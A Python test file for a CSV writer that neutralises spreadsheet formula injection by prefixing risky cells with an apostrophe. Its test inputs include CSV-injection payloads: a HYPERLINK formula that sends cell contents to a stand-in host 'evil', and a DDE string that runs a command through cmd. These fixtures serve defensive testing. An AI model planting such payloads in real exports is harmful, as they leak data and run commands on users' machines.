"""The one CSV writer: cells a spreadsheet would run as formulas come out as text."""

from __future__ import annotations

import csv
import io

import pytest

from biobank import csvsafe


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\tleading tab",
        "\rcarriage return",
    ],
)
def test_a_formula_cell_is_written_as_text(hostile):
    """Every cell starting with = + - @ tab or CR gets a leading apostrophe."""
    document = csvsafe.to_csv(["note"], [[hostile]])
    assert list(csv.reader(io.StringIO(document)))[1] == ["'" + hostile]


def test_plain_values_numbers_and_none_pass_unchanged():
    """Text, numbers and None (an empty cell) are written as they are."""
    document = csvsafe.to_csv(["a", "b", "c"], [["IF00000042T", -1.5, None]])
    assert document == "a,b,c\r\nIF00000042T,-1.5,\r\n"


def test_a_streamed_document_equals_the_whole_one():
    """Chunks joined give the same document as writing it at once."""
    rows = [[f"=x{i}", i] for i in range(2500)]
    assert "".join(csvsafe.stream_csv(["a", "b"], rows, chunk_rows=1000)) == csvsafe.to_csv(
        ["a", "b"], rows
    )
